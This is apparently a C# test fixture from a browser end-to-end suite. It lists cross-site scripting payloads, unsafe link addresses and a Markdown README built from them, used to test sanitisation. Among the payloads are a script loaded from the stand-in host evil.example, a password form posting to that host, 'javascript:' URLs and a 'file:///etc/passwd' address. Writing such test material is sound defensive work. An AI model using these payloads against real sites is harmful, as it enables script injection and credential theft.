namespace Berth.Browser.EndToEnd.Xss;

/// <summary>What people write where a name or a text is asked for. Each of them, if it works, calls <c>alarm</c> or puts an element into the page.</summary>
internal static class Payloads
{
    public static IReadOnlyList<string> All { get; } =
    [
        "<script>alarm()</script>",
        "\"><script>alarm()</script>",
        "'><script>alarm()</script>",
        "</script><script>alarm()</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alarm()>",
        "\"><img src=x onerror=alarm()>",
        "<img src='x' onerror='alarm()'//",
        "<img/src=x/onerror=alarm()>",
        "<svg onload=alarm()>",
        "<svg><script>alarm()</script></svg>",
        "<svg><a xlink:href=javascript:alarm()><text y=9>x</text></a></svg>",
        "<svg><animate onbegin=alarm() attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alarm()>",
        "<body onload=alarm()>",
        "<details open ontoggle=alarm()>",
        "<input autofocus onfocus=alarm()>",
        "<select autofocus onfocus=alarm()>",
        "<video><source onerror=alarm()></video>",
        "<audio src=x onerror=alarm()>",
        "<marquee onstart=alarm()>",
        "<iframe src=javascript:alarm()></iframe>",
        "<iframe srcdoc='<script>parent.alarm()</script>'></iframe>",
        "<object data=javascript:alarm()></object>",
        "<embed src=javascript:alarm()>",
        "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=javascript:alarm()'>",
        "<form action=javascript:alarm()><button>x</button></form>",
        "<button formaction=javascript:alarm()>x</button>",
        "<a href=javascript:alarm()>x</a>",
        "<a href=\"jav&#x09;ascript:alarm()\">x</a>",
        "<a href=\"data:text/html,<script>alarm()</script>\">x</a>",
        "<div style=background:url(//evil.example/x)>x</div>",
        "<p id=main class=card onclick=alarm()>x</p>",
        "\" autofocus onfocus=alarm() x=\"",
        "' autofocus onfocus=alarm() x='",
        "` onmouseover=alarm() x=`",
        "\" style=\"position:fixed\" onmouseover=\"alarm()",
        "{{constructor.constructor('alarm()')()}}",
        "${alarm()}@(alarm())",
        "&lt;script&gt;alarm()&lt;/script&gt;",
        "&#60;img src=x onerror=alarm()&#62;",
        "\u003cimg src=x onerror=alarm()\u003e",
        "+ADw-script+AD4-alarm()+ADw-/script+AD4-",
        "＜script＞alarm()＜/script＞",
        "\u202e<img src=x onerror=alarm()>\u202c",
        "]]><script>alarm()</script>",
        "--><img src=x onerror=alarm()>",
        "<!--><img src=x onerror=alarm()>-->",
        "</title><img src=x onerror=alarm()>",
        "</textarea><img src=x onerror=alarm()>",
        "</select></option><img src=x onerror=alarm()>",
        "<noscript><p title=\"</noscript><img src=x onerror=alarm()>\">",
        "<textarea>",
        "<plaintext>",
        "<!--",
    ];

    /// <summary>Addresses that must not be gone to.</summary>
    public static IReadOnlyList<string> Addresses { get; } =
    [
        "javascript:alarm()", "JaVaScRiPt:alarm()", "java\tscript:alarm()", "\u0001javascript:alarm()", "javascript://example.org/%0aalarm()",
        "data:text/html,<script>alarm()</script>", "data:image/svg+xml,<svg onload=alarm()>", "vbscript:alarm()", "//evil.example", "/\\evil.example",
        "https://evil.example", "https:evil.example", "///evil.example", "/%09/evil.example", "\\\\evil.example", "blob:https://evil.example/x", "file:///etc/passwd",
    ];

    /// <summary>A README made of them: as text, as raw HTML, and as the address of every kind of link.</summary>
    public static string Readme { get; } = string.Join("\n\n",
    [
        .. All.Take(All.Count - 3),
        .. Addresses.Select(address => $"[a link]({address}) <{address}> ![a picture]({address}) [a reference][{Addresses.ToList().IndexOf(address)}]"),
        .. Addresses.Select((address, i) => $"[{i}]: {address.Replace(' ', '+')}"),
        "[\"onclick=\"alarm()](https://example.org/\"onclick=\"alarm()) ![\" onerror=\"alarm()](https://example.org/\"onerror=\"alarm())",
        "```<img src=x onerror=alarm()>\n</code></pre><img src=x onerror=alarm()>\n```",
        "| <img src=x onerror=alarm()> | [x](javascript:alarm()) |\n|---|---|\n| `</td><img src=x onerror=alarm()>` | <svg onload=alarm()> |",
        "<a href=\"javascript:alarm()\">a\n\n</a><form action=\"https://evil.example\"><input name=password type=password>\n\n</form>",
        "# <img src=x onerror=alarm()> {#main onclick=alarm()}",
        .. All.TakeLast(3),
    ]);

    /// <summary>As many in one text as a field of this length takes.</summary>
    public static IEnumerable<string> Packed(int length)
    {
        var text = "";
        foreach (var payload in All.Where(payload => payload.Length <= length))
        {
            if (text.Length + payload.Length > length)
            {
                yield return text;
                text = "";
            }

            text += payload;
        }

        yield return text;
    }
}
